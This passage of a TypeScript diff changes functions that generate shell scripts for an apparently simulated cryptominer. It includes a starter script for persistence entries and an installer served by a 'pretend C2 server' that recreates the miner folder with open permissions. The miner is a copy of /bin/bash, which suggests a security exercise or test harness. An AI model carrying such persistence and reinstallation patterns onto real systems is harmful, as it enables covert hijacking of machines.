@@ -85,7 +85,7 @@ done
 
 /** What every persistence entry calls: `starter BY`. The lock is held for as long as the miner lives. */
 export function starterScript(names: MinerNames): string {
-  return String.raw`#!/bin/sh
+  return `#!/bin/sh
 ${REFUSAL}
 d=${names.folder}
 if [ ! -x $d/${names.program} ] || [ ! -r $d/${names.script} ]; then
@@ -100,7 +100,7 @@ STARTED_BY=${'$'}{1-starter} setsid nice -n 19 $d/${names.program} ${minerArgume
 
 /** What the pretend C2 server serves: puts the miner back and starts it. */
 export function installerScript(names: MinerNames): string {
-  return String.raw`${REFUSAL}
+  return `${REFUSAL}
 d=${names.folder}
 mkdir -p $d 2> /dev/null && chmod 777 $d 2> /dev/null
 [ -x $d/${names.program} ] || cp /bin/bash $d/${names.program}
